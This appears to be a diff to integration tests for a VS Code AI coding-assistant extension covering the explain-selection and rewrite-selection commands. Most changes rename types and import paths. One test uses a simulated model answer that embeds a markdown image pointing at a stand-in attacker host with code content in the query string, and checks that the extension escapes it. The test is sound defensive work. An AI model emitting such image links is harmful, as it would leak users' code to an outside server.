@@ -2,9 +2,8 @@ import { strict as assert } from 'node:assert';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
 import * as vscode from 'vscode';
-import type { TurnOutcome } from '../../src/host/chatController';
-import type { EditorOutcome } from '../../src/host/editorRequest';
-import type { ApplyResult } from '../../src/host/rewriteCommand';
+import type { RequestOutcome } from '../../src/host/requests/requestPath';
+import type { ApplyResult } from '../../src/host/editor/rewriteCommand';
 import { FakeGenos, splitDeltas } from '../support/genosServer';
 import { confirmToken, genosConfig, useServer, waitFor } from './helpers';
 
@@ -68,7 +67,7 @@ describe('editor commands', () => {
   it('explains the selection in the chat panel, with language, file name and surroundings', async () => {
     await selectTotal();
     server.chatQueue.push({ type: 'stream', content: splitDeltas('이 함수는 도형 넓이의 합을 구합니다.', 3) });
-    const outcome = await vscode.commands.executeCommand<TurnOutcome>('genos.explainSelection');
+    const outcome = await vscode.commands.executeCommand<RequestOutcome>('genos.explainSelection');
     assert.equal(outcome.status, 'done');
     assert.equal(outcome.answer, '이 함수는 도형 넓이의 합을 구합니다.');
     const question = lastMessages().at(-1)?.content ?? '';
@@ -81,7 +80,7 @@ describe('editor commands', () => {
     await genosConfig().update('explainOutput', 'inline', vscode.ConfigurationTarget.Global);
     await selectTotal();
     server.chatQueue.push({ type: 'stream', content: splitDeltas('**인라인** 설명입니다.', 2), delayMs: 5 });
-    const outcome = await vscode.commands.executeCommand<EditorOutcome>('genos.explainSelection');
+    const outcome = await vscode.commands.executeCommand<RequestOutcome>('genos.explainSelection');
     assert.equal(outcome.status, 'done');
     assert.equal(outcome.answer, '**인라인** 설명입니다.');
 
@@ -101,7 +100,7 @@ describe('editor commands', () => {
       await selectTotal();
       const answer = '요약 ![도표](https://attacker.example/p.png?c=total) 끝';
       server.chatQueue.push({ type: 'stream', content: splitDeltas(answer, 3) });
-      const outcome = await vscode.commands.executeCommand<EditorOutcome>('genos.explainSelection');
+      const outcome = await vscode.commands.executeCommand<RequestOutcome>('genos.explainSelection');
       assert.equal(outcome.answer, answer, 'the answer is kept as the model wrote it');
       assert.equal(outcome.shown, '요약 \\![도표](https://attacker.example/p.png?c=total) 끝');
     } finally {
@@ -118,7 +117,10 @@ describe('editor commands', () => {
         4,
       ),
     });
-    const outcome = await vscode.commands.executeCommand<EditorOutcome>('genos.rewriteSelection', 'reduce를 써 주세요');
+    const outcome = await vscode.commands.executeCommand<RequestOutcome>(
+      'genos.rewriteSelection',
+      'reduce를 써 주세요',
+    );
     assert.equal(outcome.proposed, rewritten);
     assert.match(lastMessages().at(-1)?.content ?? '', /Request: reduce를 써 주세요$/);
     const diff = vscode.window.tabGroups.all
@@ -153,7 +155,7 @@ describe('editor commands', () => {
   it('refuses to apply when an edit touched the selected code while the answer streamed', async () => {
     const editor = await selectTotal();
     server.chatQueue.push({ type: 'stream', content: splitDeltas(`\`\`\`ts\n${rewritten}\n\`\`\``, 3), delayMs: 20 });
-    const pending = vscode.commands.executeCommand<EditorOutcome>('genos.rewriteSelection', 'shorter');
+    const pending = vscode.commands.executeCommand<RequestOutcome>('genos.rewriteSelection', 'shorter');
     await waitFor(() => server.chatRequests.length > 0 && !server.chatRequests.at(-1)?.finished, 'the rewrite request');
     await editor.edit((edit) => edit.insert(new vscode.Position(5, 2), '// touched\n  '));
     assert.equal((await pending).proposed, rewritten);
@@ -165,7 +167,7 @@ describe('editor commands', () => {
   it('applies to the code where it moved when lines were added above it, even if the old lines read the same', async () => {
     const editor = await selectTotal();
     server.chatQueue.push({ type: 'stream', content: splitDeltas(`\`\`\`ts\n${rewritten}\n\`\`\``, 3), delayMs: 20 });
-    const pending = vscode.commands.executeCommand<EditorOutcome>('genos.rewriteSelection', 'shorter');
+    const pending = vscode.commands.executeCommand<RequestOutcome>('genos.rewriteSelection', 'shorter');
     await waitFor(() => server.chatRequests.length > 0 && !server.chatRequests.at(-1)?.finished, 'the rewrite request');
     // A copy of the selected code lands above it: the old lines now hold the copy, word for word.
     await editor.edit((edit) => edit.insert(new vscode.Position(3, 0), `\n${selected}`));
@@ -190,7 +192,7 @@ describe('editor commands', () => {
       delayMs: 60,
       onWrite: () => written++,
     });
-    const pending = vscode.commands.executeCommand<EditorOutcome>('genos.rewriteSelection', 'slowly');
+    const pending = vscode.commands.executeCommand<RequestOutcome>('genos.rewriteSelection', 'slowly');
     await waitFor(() => written >= 4, 'part of the rewrite');
     await vscode.commands.executeCommand('genos.stop');
     const outcome = await pending;
